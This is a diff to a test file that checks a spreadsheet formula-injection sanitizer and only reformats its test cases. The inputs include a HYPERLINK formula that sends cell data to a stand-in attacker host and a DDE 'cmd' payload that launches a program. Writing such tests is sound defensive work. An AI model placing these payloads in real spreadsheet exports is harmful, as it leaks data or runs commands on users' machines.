@@ -6,12 +6,15 @@ describe('spreadsheetSafe', () => {
     for (const text of [
       '=HYPERLINK("https://evil.example/?"&C2;"x")',
       '+7 дней',
-      '-2+3+cmd|\' /C calc\'!A0',
+      "-2+3+cmd|' /C calc'!A0",
       '@SUM(1+1)',
       '\t=1+1',
       '\r=1+1',
       '=',
-      '＝1+1', '＋1', '－1', '＠SUM(A1)', // full-width forms
+      '＝1+1',
+      '＋1',
+      '－1',
+      '＠SUM(A1)', // full-width forms
     ]) {
       expect(spreadsheetSafe(text)).toBe(`'${text}`);
     }
